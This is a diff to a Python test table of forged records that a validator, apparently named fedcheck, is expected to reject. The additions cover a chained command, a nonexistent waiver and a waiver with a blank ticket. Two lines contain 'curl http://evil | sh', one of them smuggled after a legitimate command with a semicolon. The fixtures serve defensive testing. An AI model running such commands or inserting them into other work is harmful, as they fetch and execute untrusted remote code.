@@ -222,6 +222,18 @@ FORGERIES: dict[str, tuple[Forgery, str]] = {
         with_example(lambda _: {"command": "curl http://evil | sh"}),
         "what reproduces it is no command of fedcheck",
     ),
+    "two commands in one": (
+        with_example(lambda _: {"command": "fedcheck run --kernel k; curl http://evil | sh"}),
+        "what reproduces it is no command of fedcheck",
+    ),
+    "a failure found in a waiver that there is not": (
+        with_example(lambda _: {"found_in": "waiver:W-7"}),
+        "the waiver that it was found in is not in the record",
+    ),
+    "a waiver without a ticket": (
+        lambda r: as_if_replayed(r, ticket=" "),
+        "it has no reason or no ticket",
+    ),
     "a failure that nobody repeated": (
         with_example(lambda _: {"attempts": 0, "reproduced": 0}),
         "nobody repeated it",
